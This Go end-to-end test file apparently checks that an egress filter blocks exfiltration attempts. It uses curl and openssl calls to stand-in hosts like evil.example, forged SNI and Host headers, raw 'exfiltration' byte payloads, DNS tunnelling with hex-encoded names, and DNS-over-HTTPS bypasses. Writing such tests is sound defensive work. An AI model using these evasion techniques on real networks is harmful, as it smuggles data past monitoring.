//go:build linux

// Tries: ways out that no document lists, each with the address where it arrives
// without a filter.

package e2e

import (
	"fmt"
	"io"
	"net/netip"
	"strings"
	"testing"
	"time"
)

// try is one way out.
type try struct {
	name string
	to   string // "tcp 93.184.250.1:443": the packet that arrives without a filter
	from string // the client, "": es-manager
	send func(t *testing.T, s *scene) result
	want denial // the record in the journal; without a reason: the packet filter drops the try
	says string // the text that the client prints
	ours string // the name that the flow shows and may reach, at addresses from sallyport's own look-up; "*": every documented destination
}

// far returns an address that no document lists. license is the address of a
// documented name, and upd the address of a name that is documented for port 80
// too.
func (s *scene) far(v6 bool) netip.Addr { return pick(elsewhere, v6) }

func pick(addrs []netip.Addr, v6 bool) netip.Addr {
	for _, a := range addrs {
		if a.Is6() == v6 {
			return a
		}
	}
	panic("no address of that family")
}

// tries lists all tries for one family.
func (s *scene) tries(v6 bool) []try {
	all := append(s.nameTries(v6), s.streamTries(v6)...)
	all = append(all, s.dnsTries(v6)...)
	return append(all, s.packetTries(v6)...)
}

// nameTries: wrong names, wrong ports and forged names, with curl and openssl.
func (s *scene) nameTries(v6 bool) []try {
	far, license, upd := s.far(v6), pick(s.book.of("license.sangfor.com"), v6), pick(s.book.of("upd.sangfor.com"), v6)
	tcp := func(a netip.Addr, port uint16) string { return "tcp " + netip.AddrPortFrom(a, port).String() }
	deny := func(host string, port int, reason string) denial {
		return denial{via: "transparent", client: "es-manager", host: host, port: port, reason: reason}
	}
	return []try{
		{name: "another name on a documented address", to: tcp(license, 443), send: curlTo(license, "https://shared.evil.example/"),
			want: deny("shared.evil.example", 443, "not_listed"), says: "access denied"},
		{name: "another Host on a documented address", to: tcp(upd, 80), send: curlTo(upd, "http://shared.evil.example/"),
			want: deny("shared.evil.example", 80, "not_listed"), says: "X-Sallyport-Reason: not_listed"},
		{name: "another name where it leads", to: tcp(far, 443), send: curlTo(far, "https://evil.example/"), want: deny("evil.example", 443, "not_listed")},
		{name: "a sub-name", to: tcp(license, 443), send: curlTo(license, "https://data.license.sangfor.com/"),
			want: deny("data.license.sangfor.com", 443, "not_listed")},
		{name: "another port of a documented name", to: tcp(license, 8443), send: curlTo(license, "https://license.sangfor.com:8443/"),
			want: deny("license.sangfor.com", 8443, "port_not_listed")},
		{name: "port 80 of a name documented for 443", to: tcp(license, 80), send: curlTo(license, "http://license.sangfor.com/"),
			want: deny("license.sangfor.com", 80, "port_not_listed"), says: "X-Sallyport-Reason: port_not_listed"},
		{name: "a forged SNI to an outside address", to: tcp(far, 443), send: curlTo(far, "https://license.sangfor.com/"), ours: "license.sangfor.com"},
		{name: "a forged Host to an outside address", to: tcp(far, 80), send: curlTo(far, "http://upd.sangfor.com/"), ours: "upd.sangfor.com"},
		{name: "a forged SNI to an unlisted port", to: tcp(far, 8888), send: curlTo(far, "https://license.sangfor.com:8888/"),
			want: deny("license.sangfor.com", 8888, "port_not_listed")},
		{name: "a Host that is not the SNI's", to: tcp(far, 80), send: curlTo(far, "http://evil.example/", "-H", "Host: x.evil.example"),
			want: deny("x.evil.example", 80, "not_listed")},
		{name: "a bare address, TLS", to: tcp(far, 443), send: curlTo(far, "https://"+hostPort(far.String(), 443)+"/"), want: deny("", 443, "sni_missing")},
		{name: "a bare address, HTTP", to: tcp(far, 80), send: curlTo(far, "http://"+hostPort(far.String(), 80)+"/"), want: deny("", 80, "ip_literal"),
			says: "X-Sallyport-Reason: ip_literal"},
		{name: "no SNI, outside address", to: tcp(far, 443), send: handshake(far, 443, "-noservername"), want: deny("", 443, "sni_missing"), says: "access denied"},
		{name: "no SNI, a documented name's address", to: tcp(license, 443), send: handshake(license, 443, "-noservername"),
			want: deny("", 443, "sni_missing"), says: "access denied"},
		{name: "another client's destination", from: "liveupdate", to: tcp(license, 443), send: curlTo(license, "https://license.sangfor.com/"),
			want: denial{client: "liveupdate", host: "license.sangfor.com", port: 443, reason: "not_listed"}},
		{name: "an unknown client", from: "unknown", to: tcp(license, 443), send: curlTo(license, "https://license.sangfor.com/", "--max-time", "0.5")},
		{name: "DNS over TLS", to: tcp(pick(s.outsideAddrs(), v6), 853), send: handshake(pick(s.outsideAddrs(), v6), 853, "-servername", "dns.google")},
		{name: "DNS over TLS with a documented name", to: tcp(pick(s.outsideAddrs(), v6), 853),
			send: handshake(pick(s.outsideAddrs(), v6), 853, "-servername", "license.sangfor.com")},
		{name: "DNS over HTTPS", to: tcp(pick(s.outsideAddrs(), v6), 443), want: deny("dns.google", 443, "not_listed"),
			send: curlTo(pick(s.outsideAddrs(), v6), "https://dns.google/dns-query?dns=AAABAAABAAAAAAAABGV2aWwHZXhhbXBsZQAAAQAB")},
		{name: "DNS over HTTPS by address", to: tcp(pick(s.outsideAddrs(), v6), 443), want: deny("", 443, "sni_missing"),
			send: curlTo(pick(s.outsideAddrs(), v6), "https://license.sangfor.com/", "--doh-url", "https://"+hostPort(pick(s.outsideAddrs(), v6).String(), 443)+"/dns-query",
				"--doh-insecure", "--resolve", "-license.sangfor.com:443")},
	}
}

// outsideAddrs returns the addresses of the outside resolvers.
func (s *scene) outsideAddrs() []netip.Addr { return addrs(outsideDNS4, outsideDNS6) }

// curlTo fetches a URL as if its name resolved to addr.
func curlTo(addr netip.Addr, url string, args ...string) func(t *testing.T, s *scene) result {
	return func(t *testing.T, s *scene) result {
		host := strings.TrimSuffix(strings.SplitAfter(url, "://")[1], "/")
		host, _, _ = strings.Cut(host, "/")
		if !strings.Contains(host, ":") {
			host += map[bool]string{true: ":443", false: ":80"}[strings.HasPrefix(url, "https")]
		}
		base := []string{"--disable", "-sS", "-i", "-k", "--max-time", "6"}
		if !strings.Contains(strings.Join(args, " "), "--doh-url") && !strings.HasPrefix(host, "[") {
			to := addr.String()
			if addr.Is6() {
				to = "[" + to + "]"
			}
			base = append(base, "--resolve", host+":"+to)
		}
		return s.user(t, "", "curl", append(append(base, args...), url)...)
	}
}

// handshake begins TLS with s_client.
func handshake(addr netip.Addr, port uint16, args ...string) func(t *testing.T, s *scene) result {
	limit := "6"
	if port == 853 {
		limit = "0.7" // the filter drops this packet, so the client waits in vain
	}
	return func(t *testing.T, s *scene) result {
		args := append([]string{limit, "openssl", "s_client", "-connect", hostPort(addr.String(), port)}, args...)
		return s.user(t, "GET / HTTP/1.0\r\n\r\n", "timeout", args...)
	}
}

// streamTries: TCP connections that carry neither TLS nor HTTP, or no data at all.
func (s *scene) streamTries(v6 bool) (all []try) {
	far := s.far(v6)
	license := pick(s.book.of("license.sangfor.com"), v6)
	for _, c := range []struct {
		name, payload, reason string
		addr                  netip.Addr
		port                  uint16
	}{
		{"bytes to a bare address", "\x02exfiltration\r\n\r\n", "ip_literal", far, 9999},
		{"bytes on 443", "exfiltration\r\n\r\n", "not_tls", far, 443},
		{"SSH to a bare address", "SSH-2.0-client\r\n", "ip_literal", far, 22},
		{"bytes on 80", "\x01\x02\x03\x04\r\n\r\n", "not_http", far, 80},
		{"bytes to a documented name's address", "exfiltration\r\n\r\n", "not_tls", license, 443},
		{"an SMTP client", "EHLO evil.example\r\n", "ip_literal", far, 25},
		{"a private address of nobody", "\x02exfiltration\r\n\r\n", "ip_literal", s.inner(v6), 5432},
		{"HTTP/2 without TLS", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "", far, 80},
		{"a proxy's CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n", "", far, 8080},
	} {
		dst := netip.AddrPortFrom(c.addr, c.port)
		one := try{name: c.name, to: "tcp " + dst.String(), send: stream(dst, c.payload)}
		if c.reason != "" {
			one.want = denial{via: "transparent", client: "es-manager", port: int(c.port), reason: c.reason}
		}
		all = append(all, one)
	}
	return all
}

// inner is a private address that the site has bound to no role.
func (s *scene) inner(v6 bool) netip.Addr { return pick(addrs("10.20.66.99", "fd20:66::99"), v6) }

// stream connects, writes, and reads the answer.
func stream(dst netip.AddrPort, payload string) func(t *testing.T, s *scene) result {
	return func(t *testing.T, s *scene) result {
		r := result{line: fmt.Sprintf("%q to %v", payload, dst), code: 1}
		c, err := s.clients.dial("tcp", "", dst.String())
		if err != nil {
			r.stderr = err.Error()
			return r
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(3 * time.Second))
		_, _ = io.WriteString(c, payload)
		b, _ := io.ReadAll(c)
		r.stdout = string(b)
		return r
	}
}

// dnsTries: questions to outside resolvers. The DNS filter answers in their place.
func (s *scene) dnsTries(v6 bool) (all []try) {
	server := pick(s.outsideAddrs(), v6)
	for _, transport := range []string{"udp", "tcp"} {
		dig := func(args ...string) func(t *testing.T, s *scene) result {
			flag := map[string]string{"udp": "+notcp", "tcp": "+tcp"}[transport]
			return func(t *testing.T, s *scene) result {
				return s.user(t, "", "dig", append([]string{"@" + server.String(), "+time=2", "+tries=1", flag}, args...)...)
			}
		}
		to := transport + " " + netip.AddrPortFrom(server, 53).String()
		name := fmt.Sprintf("%s-%t.evil.example", transport, v6)
		query := func(host, reason string) denial {
			return denial{via: "dns", client: "es-manager", host: host, reason: reason}
		}
		all = append(all,
			try{name: "a query over " + transport, to: to, send: dig(name), want: query(name, "not_listed"), says: "NXDOMAIN"},
			try{name: "data in a name over " + transport, to: to, send: dig("6578666c.license.sangfor.com", "TXT"),
				want: query("6578666c.license.sangfor.com", "not_listed"), says: "NXDOMAIN"},
			try{name: "TXT of a documented name over " + transport, to: to, send: dig("license.sangfor.com", "TXT"),
				want: query("license.sangfor.com", "type_not_allowed"), says: "ANSWER: 0"},
			try{name: "a documented name over " + transport, to: to, send: dig("license.sangfor.com"),
				says: s.book.of("license.sangfor.com")[0].String()},
		)
	}
	return all
}
